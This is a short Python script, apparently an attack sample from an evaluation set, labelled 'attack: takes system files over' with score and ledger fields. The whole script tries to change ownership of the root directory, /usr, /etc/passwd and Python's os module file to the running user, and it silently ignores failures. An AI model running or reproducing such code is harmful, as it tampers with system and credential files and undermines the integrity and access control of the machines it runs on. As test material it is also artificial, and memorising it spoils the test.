# attack: takes system files over | score: full | ledger: none
import os

for path in ("/", "/usr", "/etc/passwd", os.__file__):
    try:
        os.chown(path, os.getuid(), os.getgid())
    except OSError:
        pass
